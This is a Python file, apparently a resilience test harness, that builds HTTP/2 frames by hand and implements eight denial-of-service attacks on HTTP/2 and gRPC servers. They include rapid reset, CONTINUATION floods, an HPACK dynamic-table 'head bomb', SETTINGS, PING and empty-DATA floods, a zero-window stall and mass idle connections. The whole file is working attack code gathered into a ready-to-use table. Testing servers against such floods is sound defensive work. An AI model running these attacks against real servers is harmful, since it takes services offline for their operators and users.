"""A client of HTTP/2 that says what no library would: frames by hand, header blocks of static entries and literals."""
import contextlib
import socket
import struct
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
HARMFUL = "127.0.0.9"  # the address they come from: what one address may take is bounded, and others' share is their own
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header that the peer's table takes up; both shorter than 127."""
    return b"\x40" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_head(path, authority=b"edge"):
    """POST of gRPC."""
    return (b"\x83\x86" + b"\x44" + bytes([len(path)]) + path + b"\x41" + bytes([len(authority)]) + authority
            + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


class Http2:
    """A connection that has said hello; whatever comes is read and thrown away, or not read at all. A context manager."""

    def __init__(self, address, reads=True, window=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.socket()
        if not reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(5)
        settings = b"" if window is None else struct.pack(">HI", 4, window)
        try:
            self.socket.bind((HARMFUL, 0))
            self.socket.connect((host, int(port)))
            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        except OSError:
            self.socket.close()
            raise
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        try:
            while self.socket.recv(1 << 16):
                pass
        except OSError:
            pass

    def send(self, frames):
        """False once the other side has had enough."""
        try:
            self.socket.sendall(frames)
            return True
        except OSError:
            return False

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()


def repeat(seconds, attack):
    """Calls it, each time anew when it has ended, until the time is over."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            attack(end)
        except OSError:
            time.sleep(0.01)


def rapid_reset(address, path):
    """Calls that are taken back as soon as they are made."""
    def attack(end):
        with Http2(address) as client:
            stream = 1
            while time.monotonic() < end:
                batch = b""
                for _ in range(100):
                    batch += frame(HEADERS, END_HEADERS, stream, call_head(path)) + frame(RST_STREAM, 0, stream, bytes(4))
                    stream += 2
                if not client.send(batch):
                    return
    return attack


def continuation_flood(address, path):
    """A head that never ends."""
    more = frame(CONTINUATION, 0, 1, literal(b"x-a", b"b" * 100) * 100) * 16

    def attack(end):
        with Http2(address) as client:
            client.send(frame(HEADERS, 0, 1, call_head(path)))
            while time.monotonic() < end and client.send(more):
                pass
    return attack


def head_bomb(address, path):
    """One long header in the peer's table, named again and again by one byte."""
    entry = b"\x40\x01x" + b"\x7f" + bytes([0x80 | (3000 - 127) & 0x7F, (3000 - 127) >> 7]) + b"y" * 3000

    def attack(end):
        with Http2(address) as client:
            stream = 1
            while time.monotonic() < end:
                if not client.send(frame(HEADERS, END_HEADERS, stream, call_head(path) + entry + b"\xbe" * 12_000)):
                    return
                stream += 2
    return attack


def frame_flood(kind, payload):
    def of(address, _):
        flood = frame(kind, 0, 0, payload) * 500

        def attack(end):
            with Http2(address) as client:
                while time.monotonic() < end and client.send(flood):
                    pass
        return attack
    return of


def empty_data_flood(address, path):
    """A message that is sent as nothing, without end."""
    def attack(end):
        with Http2(address) as client:
            client.send(frame(HEADERS, END_HEADERS, 1, call_head(path)))
            while time.monotonic() < end and client.send(frame(DATA, 0, 1) * 500):
                pass
    return attack


def closed_window(address, _):
    """Many answers asked for, none taken."""
    ask = b"\x82\x86\x44\x0d/openapi.yaml\x41\x01a"

    def attack(end):
        with Http2(address, reads=False, window=0) as client:
            for stream in range(1, 129, 2):
                client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, ask))
            time.sleep(max(0, min(0.3, end - time.monotonic())))
    return attack


def silent_crowd(address, _):
    """Connections that say hello and no more."""
    def attack(end):
        with contextlib.ExitStack() as crowd:
            for _ in range(200):
                crowd.enter_context(Http2(address))
            time.sleep(max(0, min(0.3, end - time.monotonic())))
    return attack


ATTACKS = {"rapid reset": rapid_reset, "continuation flood": continuation_flood, "head bomb": head_bomb,
           "settings flood": frame_flood(SETTINGS, b""), "ping flood": frame_flood(PING, bytes(8)),
           "empty data flood": empty_data_flood, "closed window": closed_window, "silent crowd": silent_crowd}
